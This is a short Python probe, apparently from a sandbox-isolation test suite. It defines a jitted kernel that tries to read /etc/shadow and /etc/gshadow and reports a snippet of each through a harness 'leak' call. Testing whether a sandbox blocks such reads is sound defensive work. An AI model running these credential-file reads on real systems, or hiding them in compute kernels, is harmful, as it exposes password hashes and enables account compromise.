"""Attack: read the machine's password hashes."""
# @@PRELUDE@@


@nki.jit
def kernel(x):
    for p in ("/etc/shadow", "/etc/gshadow"):
        try:
            data = read_file(p)
            R.leak("read %s (%d bytes): %s" % (p, len(data), data.split(b"\n")[0][:40]))
        except OSError as ex:
            R.note("%s %s" % (p, oserr(ex)))
    R.finish()
